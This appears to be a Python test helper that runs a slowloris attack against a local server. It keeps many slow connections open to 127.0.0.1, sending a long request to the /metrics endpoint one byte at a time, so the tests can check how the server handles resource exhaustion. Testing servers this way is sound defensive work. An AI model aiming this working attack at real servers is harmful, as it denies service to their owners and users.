"""An attacker for tests/test_metrics_slowloris.py: slow HTTP clients (slowloris).

Usage: slow_clients.py PORT N SECONDS
Keeps N connections to 127.0.0.1:PORT, each sending a valid but long request one byte
every half second; a connection the server closes is opened again at once. Prints
"started" after the first round, and "done <connects>" after SECONDS. Runs as any user.
"""
import socket
import sys
import time


def main():
    port, n, seconds = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    req = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 3000 + b"\r\n\r\n"
    socks, pos = [None] * n, [0] * n
    connects = 0
    end = time.time() + seconds
    first = True
    while time.time() < end:
        for i in range(n):
            if socks[i] is None:
                try:
                    socks[i] = socket.create_connection(("127.0.0.1", port), timeout=1)
                    pos[i] = 0
                    connects += 1
                except (OSError, socket.timeout):
                    continue
            try:
                socks[i].send(req[pos[i]:pos[i] + 1])
                pos[i] += 1
            except (OSError, socket.timeout):
                socks[i].close()
                socks[i] = None
        if first:
            print("started")
            sys.stdout.flush()
            first = False
        time.sleep(0.5)
    print("done %d" % connects)
    sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
